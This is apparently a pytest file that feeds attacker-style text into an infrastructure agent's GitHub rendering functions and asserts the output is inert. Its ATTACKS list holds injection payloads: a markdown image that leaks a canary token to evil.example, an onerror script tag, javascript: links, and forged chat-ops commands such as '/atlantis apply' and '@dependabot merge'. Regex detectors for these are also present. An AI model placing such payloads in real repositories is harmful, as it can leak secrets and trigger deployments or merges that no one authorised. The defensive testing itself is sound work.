"""Every public text of the program, fed with documents whose every free text is an attack, is inert on GitHub."""

import importlib
import inspect
import pkgutil
import re
import types
from collections.abc import Callable, Iterator, Mapping, Sequence
from datetime import UTC, datetime
from typing import Any, Union, get_args, get_origin, get_type_hints

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token
from pydantic import BaseModel

from agent import commands, render
from agent.render.outputs import CheckOutput
from agent.render.page import ENVIRONMENT, Context, marker
from tests.render import examples as x

GITHUB = MarkdownIt("gfm-like", {"html": True})
assert GITHUB.linkify is not None
GITHUB.linkify.set({"fuzzy_link": False, "fuzzy_email": True})  # GitHub does not guess at bare domains

# What the modules below these hold is made of words and numbers of ours, or is no text for GitHub's pages.
PIECES = {
    "cost",
    "limits",
    "lint",
    "mermaid",
    "page",
    "records",
    "redact",
    "rows",
    "sanitize",
    "stages",
    "steps",
    "words",
}
PLAIN = {"pull.pull_request_title", "pull.commit_message"}
COMMAND = {"status.answer"}
# Parameters that take words of ours alone; `test_words_of_ours_are_constants` holds the callers to it.
OURS_ALONE = {"icon", "headline"}

TOKEN = "AKIAIOSFODNN7CANARY0"
SECRET = "correct horse battery staple"
ATTACKS = (
    f"@octocat ![i](https://evil.example/?q={TOKEN}) <img src=x onerror=y> {SECRET}",
    "x\n/agent plan\n@org/team Fixes #7, closes GH-7, resolves acme/infra#7 [a](https://evil.example) |x|\n| --- |",
    "<!-- infra-agent:plan --> </details></sub> `@octocat www.evil.example",
    "```\n@octocat\n```\n![x][y]\n\n[y]: https://evil.example\n\n/atlantis apply\nbors r+\n@dependabot merge\n/lgtm",
    '"]; click n0 "https://evil.example"\n%%{init: {}}%% | fixes https://github.com/acme/infra/issues/7',
    "terrateam apply\ndigger unlock\n> /agent plan\n!\u2060[a](https://evil.example)\u202e\x1b[31m@x\U000e0041",
    "javascript:alert(1) [b](javascript:x) https://github.com@evil.example/ <https://evil.example> a@b.co //evil.test",
    "](https://evil.example) ![ `` ``` ~~~ <details> \\@octocat &#64;octocat $x$ _www.evil.example_ **@a**",
)
BOT_LINE = re.compile(
    r"(?:/(?!agent )|!|(?:atlantis|bors|digger|terrateam|homu|mergify|dependabot|renovate|jenkins|recheck)\b)",
    re.IGNORECASE,
)
CLOSING = re.compile(
    r"\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+(?:[\w./-]*#\d|GH-\d|https?://\S+/(?:issues|pull)/\d)",
    re.IGNORECASE,
)
OURS = re.compile(
    r"<!-- infra-agent:[a-z]+(?: to [\w-]+)? -->|<details(?: open)?><summary>[^<>@#]+</summary>|</details>|</?sub>|<br>"
)
COPIED = re.compile(r" {0,2}/agent [a-z-]+(?: <[a-z ]+>| \[[a-z]+\]| x.*| [0-9a-f]{40}.*| [a-z]+/[a-z-]+ <reason>)?")


class Fill:
    """Makes a value of any type of the documents; `variant` turns the wheel of literals, lists and flags."""

    def __init__(self, attack: str, variant: int) -> None:
        self.attack = attack
        self.variant = variant

    def value(self, kind: Any, *, depth: int = 0, number: int = 0) -> Any:
        origin, arguments = get_origin(kind), get_args(kind)
        if isinstance(kind, type) and issubclass(kind, BaseModel):
            return kind.model_construct(
                **{name: self.field(name, field, depth, number) for name, field in kind.model_fields.items()}
            )
        if getattr(kind, "_is_protocol", False) and kind.__module__.startswith("agent."):
            parts = get_type_hints(kind).items()
            return types.SimpleNamespace(**{name: self.value(part, depth=depth + 1) for name, part in parts})
        if origin is tuple and arguments[-1] is not Ellipsis:
            return tuple(self.value(one, depth=depth + 1, number=number) for one in arguments)
        if origin in (tuple, list, Sequence):
            several = 23 if self.variant == 1 and depth == 1 else 2
            return tuple(self.value(arguments[0], depth=depth + 1, number=index) for index in range(several))
        if origin in (dict, Mapping):
            return {self.attack: self.value(arguments[1], depth=depth + 1)}
        if origin in (Union, types.UnionType):
            real = [one for one in arguments if one is not type(None)]
            absent = len(real) < len(arguments) and self.variant == 3 and depth
            return None if absent else self.value(real[0], depth=depth, number=number)
        if origin is not None and str(origin).endswith("Literal"):
            return arguments[(self.variant + number) % len(arguments)]
        if origin is not None:  # Annotated: a commit or a digest
            return "a" * 40
        known = {int: 7, float: 1.5, bool: self.variant % 2 == 0, datetime: datetime(2026, 1, 2, tzinfo=UTC)}
        return known.get(kind, f"{self.attack}{number or ''}")

    def field(self, name: str, field: Any, depth: int, number: int) -> Any:
        if any(getattr(item, "pattern", None) for item in field.metadata):
            return "a" * (64 if "sha256" in name else 40)
        return self.value(field.annotation, depth=depth + 1, number=number)


def texts() -> Iterator[tuple[str, Callable[..., Any]]]:
    """Every public function of agent/render that makes a text for GitHub: those that are given a Context, and a few."""
    for module in pkgutil.iter_modules(render.__path__):
        if module.name in PIECES:
            continue
        here = importlib.import_module(f"agent.render.{module.name}")
        for name, made in inspect.getmembers(here, inspect.isfunction):
            full = f"{module.name}.{name}"
            if name.startswith("_") or made.__module__ != here.__name__:
                continue
            if full in PLAIN | COMMAND or Context in get_type_hints(made).values():
                yield full, made


TEXTS = dict(texts())


def called(made: Callable[..., Any], fill: Fill) -> Any:
    context = Context(repository=x.REPOSITORY, run=x.CONTEXT.run, secrets=(SECRET,))
    hints = get_type_hints(made)
    arguments: dict[str, Any] = {}
    for name in inspect.signature(made).parameters:
        if hints[name] is Context:
            arguments[name] = context
        elif name == "commit" and fill.variant % 2:
            arguments[name] = x.COMMIT
        elif name in OURS_ALONE:
            arguments[name] = "Ours"
        elif name == "secrets":
            arguments[name] = context.secrets
        else:
            arguments[name] = fill.value(hints[name])
    return made(**arguments)


def bodies() -> Iterator[tuple[str, str, str]]:
    for index, attack in enumerate(ATTACKS):
        for variant in (index % 4, (index + 1) % 4):
            for name, made in TEXTS.items():
                answer = called(made, Fill(attack, variant))
                if isinstance(answer, CheckOutput):
                    yield name, "plain", answer.title
                    yield name, "body", answer.summary
                    yield name, "body", answer.text
                    for finding in answer.findings:
                        yield name, "plain", finding.rule
                        yield name, "plain", finding.message
                elif isinstance(answer, tuple):  # findings that stand beside a line
                    for finding in answer:
                        yield name, "body" if name == "review.review_comments" else "plain", finding.message
                elif isinstance(answer, str):
                    yield name, "plain" if name in PLAIN else "command" if name in COMMAND else "body", answer
                else:
                    raise AssertionError(f"{name}: gives a {type(answer).__name__}; say in this test how it is shown")


def leaves(tokens: Sequence[Token]) -> list[Token]:
    return [leaf for token in tokens for leaf in (token.children if token.children is not None else [token])]


def assert_no_secret(name: str, text: str) -> None:
    assert TOKEN not in text, name
    assert SECRET not in text, name
    assert not re.search("[\u202e\x1b\U000e0041]", text), name


def assert_plain(name: str, text: str) -> None:
    assert not re.search(r"[@＠]\w", text), (name, text)
    assert not re.search(r"#\d|\bGH-\d|://", text), (name, text)
    assert not CLOSING.search(text), (name, text)
    assert not re.match(r"\s*[/!]", text), (name, text)


def assert_body(name: str, body: str) -> None:
    tokens = leaves(GITHUB.parse(body))
    assert not [token for token in tokens if token.type == "image"], (name, body)
    linked = 0
    for token in tokens:
        if token.type in ("html_inline", "html_block"):
            left = OURS.sub("", token.content).strip() if "<sub>" not in token.content else ""
            assert not left, (name, token.content)
        if token.type == "link_open":
            assert str(token.attrs["href"]).startswith(x.REPOSITORY), (name, token.attrs)
        linked += (token.type == "link_open") - (token.type == "link_close")
        if token.type == "text":
            said = token.content
            assert not re.search(r"[@＠]\w", said), (name, said)
            assert linked or not re.search(r"#\d|\bGH-\d", re.sub(r"For #7\b", "", said)), (name, said)
            assert not re.search(r"(?:^|[^A-Za-z0-9])www\.\w|[a-z]://", said), (name, said)
            assert not CLOSING.search(said), (name, said)
    assert len(re.findall(r"<!-+\s*infra-agent", body)) <= 1, name
    html = "".join(token.content for token in tokens if token.type in ("html_inline", "html_block"))
    assert html.count("<details") == html.count("</details>"), name
    for line in body.split("\n"):
        assert not BOT_LINE.match(line), (name, line)
        if isinstance(commands.parse(line), commands.Command | commands.Usage):
            assert COPIED.fullmatch(line), (name, line)
    for diagram in re.findall(r"```mermaid\n(.*?)\n```", body, re.DOTALL):
        for line in diagram.split("\n"):
            assert "click" not in line.split('"')[0], (name, line)
            assert "%%" not in line, (name, line)


def test_every_text_field_of_every_document_passes_the_sanitizer_and_the_redactor() -> None:
    seen = set()
    for name, kind, text in bodies():
        seen.add(name)
        assert_no_secret(name, text)
        if kind == "plain":
            assert_plain(name, text)
        elif kind == "body":
            assert_body(name, text)
        else:
            parsed = commands.parse(text)
            assert isinstance(parsed, commands.Command), (name, text)
            assert parsed.name == "revise", (name, text)
            assert "```" not in text
    assert {"status.status", "pull.pull_request_body", "sections.plan_section", "outputs.step_summary"} <= seen
    used = {str(name) for _, name in ENVIRONMENT.cache} if ENVIRONMENT.cache is not None else set()
    assert set(ENVIRONMENT.list_templates()) <= used, "a template that no text here is made of"


@pytest.mark.parametrize(
    "text",
    [
        "hello @octocat",
        "![a](https://github.com/a.png)",
        "see https://evil.example",
        "Fixes #7",
        "/atlantis apply",
        "terrateam apply",
        "<b>x</b>",
        f"{marker('plan')}\n{marker('plan')}",
        "a@b.co",
        "/agent plan now",
    ],
)
def test_the_judge_sees_what_is_not_inert(text: str) -> None:
    with pytest.raises(AssertionError):
        assert_body("raw", text)
